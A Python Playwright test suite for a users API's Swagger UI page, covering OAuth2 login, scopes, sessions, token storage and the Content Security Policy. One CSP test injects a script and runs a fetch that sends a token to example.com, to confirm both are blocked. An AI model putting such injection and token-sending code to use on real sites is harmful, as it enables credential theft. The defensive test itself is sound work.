"""Swagger UI at /api/docs."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from tests.browser.conftest import Seen
from tests.project.server import Up, running
from users.scopes import SCOPES

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

ADMINISTRATOR = {"id": 1, "name": "Administrator", "email": "admin@example.com"}
WRONG = "Auth ErrorError: Bad Request, error: invalid_grant, description: "


@dataclass
class Shown:
    """What the page shows of an answer."""

    status: str
    body: Any
    headers: str


class Docs:
    """The page, with what a reader does on it."""

    def __init__(self, page: Page, site: str = "") -> None:
        self.page = page
        page.goto(f"{site}/api/docs")
        self.authorize = page.locator(".auth-wrapper .authorize").first
        self.dialog = page.locator(".dialog-ux")

    @property
    def is_locked(self) -> bool:
        """Whether the lock beside Authorize is closed."""
        return "locked" in (self.authorize.get_attribute("class") or "").split()

    def open_dialog(self) -> None:
        """Press Authorize."""
        self.authorize.click()
        self.dialog.wait_for()

    def send(self, email: str, password: str, *scopes: str) -> None:
        """Fill the dialog and press its own Authorize."""
        self.dialog.get_by_label("username:").fill(email)
        self.dialog.get_by_label("password:").fill(password)
        if scopes:
            self.dialog.get_by_text("select none").click()
        for scope in scopes:
            self.dialog.locator(f"label[for='{scope}-password-checkbox-bearer']").click()
        self.dialog.get_by_label("Apply given OAuth2 credentials").click()

    def log_in(self, password: str, *scopes: str) -> None:
        """Get a token with *scopes* for the administrator."""
        self.open_dialog()
        self.send(ADMINISTRATOR["email"], password, *scopes)
        self.dialog.get_by_label("Remove authorization").wait_for()
        self.close_dialog()

    def log_out(self) -> None:
        """Press Logout in the dialog."""
        self.open_dialog()
        self.dialog.get_by_label("Remove authorization").click()
        self.close_dialog()

    def close_dialog(self) -> None:
        """Leave the dialog."""
        self.dialog.locator(".close-modal").click()
        self.dialog.wait_for(state="detached")

    def operation(self, name: str) -> Locator:
        """Return the block of an operation, opened and ready to be tried."""
        block = self.page.locator(f".opblock[id$='_api_{name}']")
        if block.get_by_role("button", name="Execute").count() == 0:
            block.locator(".opblock-summary-control").click()
            block.get_by_role("button", name="Try it out").click()
        return block

    def execute(self, name: str, body: Any = None) -> Shown:
        """Try an operation and return what is shown."""
        block = self.operation(name)
        if body is not None:
            block.locator("textarea").fill(json.dumps(body))
        block.get_by_role("button", name="Execute").click()
        answer = block.locator(".live-responses-table .response")
        status = answer.locator(".response-col_status").inner_text().split()[0]
        text, headers = answer.locator("pre").all_inner_texts()
        block.get_by_role("button", name="Clear").click()
        return Shown(status, json.loads(text), headers)


def test_it_is_served_from_here(page: Page, site: Up, seen: Seen) -> None:
    """Nothing comes from elsewhere and nothing is complained of: each operation is there."""
    docs = Docs(page)
    docs.authorize.wait_for()
    assert page.title() == "Users · API documentation"
    document = json.loads(site.ask("/api/openapi.json")[1])
    listed = page.locator(".opblock-summary-path").all_inner_texts()
    ours = [path for path, operations in document["paths"].items() for _ in operations]
    assert sorted(text.replace("\u200b", "") for text in listed) == sorted(ours)
    assert seen.complaints == []
    assert all(url.startswith(f"http://127.0.0.1:{site.port}/") for url in seen.urls)
    assert f"http://127.0.0.1:{site.port}/static/ninja/swagger-ui-bundle.js" in seen.urls


def test_what_is_written_into_the_page_does_not_run(page: Page, seen: Seen) -> None:
    """Nor can it send anything elsewhere: a token would be worth it."""
    Docs(page).authorize.wait_for()
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.text = "window.hasRun = true";
        document.body.append(script);
    }""")
    assert page.evaluate("window.hasRun") is None
    sent = "fetch('https://example.com/?token').then(() => 'sent', () => 'refused')"
    assert page.evaluate(sent) == "refused"
    told = [text for text in seen.complaints if "Content Security Policy" in text]
    for directive in ("script-src", "connect-src"):
        assert any(directive in text for text in told), seen.complaints
    seen.complaints.clear()


def test_the_dialog_opens_on_the_password_form(page: Page) -> None:
    """When a reader presses Authorize, then the cursor is in the form, with scopes chosen.

    The cookie of a session is not offered, because no script can set one.
    """
    docs = Docs(page)
    docs.open_dialog()
    assert page.evaluate("document.activeElement.id") == "oauth_username"
    labels = docs.dialog.locator("label:visible:not(.item)").all_inner_texts()
    assert [text.strip() for text in labels if text.strip()][:2] == ["username:", "password:"]
    assert docs.dialog.locator("input:visible:not([type=checkbox])").count() == 2
    offered = docs.dialog.locator(".scopes .checkbox")
    names = offered.locator(".name").all_inner_texts()
    texts = offered.locator(".description").all_inner_texts()
    assert dict(zip(names, texts, strict=True)) == {
        name: scope.allows for name, scope in SCOPES.items()
    }
    checked = offered.filter(has=page.locator("input:checked")).locator(".name")
    assert checked.all_inner_texts() == [name for name in names if name != "users:admin"]
    assert docs.dialog.locator("h4").all_inner_texts() == ["bearer (OAuth2, password)"]


def test_users_are_read_and_made(page: Page, site: Up) -> None:
    """When a reader logs in and ticks nothing, then the calls that follow carry a token."""
    docs = Docs(page)
    docs.log_in(site.password())
    assert docs.is_locked
    shown = docs.execute("list_users")
    assert (shown.status, shown.body[0]) == ("200", ADMINISTRATOR)
    assert "x-total-count" in shown.headers
    shown = docs.execute("create_user", {"name": "Ann", "email": "ann@example.com"})
    assert shown.status == "201"
    assert shown.body == {"id": shown.body["id"], "name": "Ann", "email": "ann@example.com"}
    assert f"location: /api/users/{shown.body['id']}" in shown.headers
    assert shown.body in docs.execute("list_users").body


def test_bodies_are_filled_in(page: Page) -> None:
    """With what would be accepted as it is."""
    block = Docs(page).operation("create_user")
    assert json.loads(block.locator("textarea").input_value()) == {
        "name": "Ann",
        "email": "ann@example.com",
        "password": "correct horse battery",
    }


def test_too_few_scopes_and_none(page: Page, site: Up) -> None:
    """The answer says which scope is missing; after logging out, no token is sent."""
    docs = Docs(page)
    docs.log_in(site.password(), "users:read")
    shown = docs.execute("create_user", {"name": "Bob", "email": "bob@example.com"})
    detail = "Not enough permissions: the token lacks users:write"
    assert (shown.status, shown.body) == ("403", {"detail": detail})
    assert 'error="insufficient_scope",scope="users:write"' in shown.headers
    docs.log_out()
    assert not docs.is_locked
    shown = docs.execute("list_users")
    assert (shown.status, shown.body) == ("401", {"detail": "Not authenticated"})
    assert 'www-authenticate: Bearer realm="api"' in shown.headers


def test_a_wrong_password(page: Page) -> None:
    """The dialog says so, and stays for another try."""
    docs = Docs(page)
    docs.open_dialog()
    docs.send("nobody@example.com", "wrong password")
    error = docs.dialog.locator(".errors").inner_text()
    assert error == f"{WRONG}Incorrect username or password"
    docs.close_dialog()
    assert not docs.is_locked


def test_a_browser_session(page: Page, site: Up) -> None:
    """Whoever has logged in with a session needs no token, for writing neither."""
    docs = Docs(page)
    credentials = {"email": ADMINISTRATOR["email"], "password": site.password()}
    shown = docs.execute("create_session", credentials)
    assert (shown.status, shown.body) == ("200", ADMINISTRATOR)
    page.reload()  # logging in has ended the CSRF token that the page had
    assert not docs.is_locked
    shown = docs.execute("create_user", {"name": "Cid", "email": "cid@example.com"})
    assert (shown.status, shown.body["name"]) == ("201", "Cid")


def test_development_remembers(page: Page, site: Up) -> None:
    """Where DEBUG is on, the page loaded anew has the token still."""
    docs = Docs(page)
    docs.log_in(site.password(), "users:read")
    page.reload()
    assert docs.execute("list_users").status == "200"
    assert docs.is_locked


def test_others_forget(page: Page, tmp_path: Path, seen: Seen) -> None:
    """Where DEBUG is off, no token is left in the browser's storage."""
    with running(f"sqlite:///{tmp_path / 'new.sqlite3'}", DEBUG="0") as up:
        up.wait_until_ready()
        docs = Docs(page, f"http://127.0.0.1:{up.port}")
        docs.log_in(up.password(), "users:read")
        assert docs.is_locked
        page.reload()
        assert docs.execute("list_users").status == "401"
        assert not docs.is_locked
        assert page.evaluate("JSON.stringify(localStorage)") == "{}"
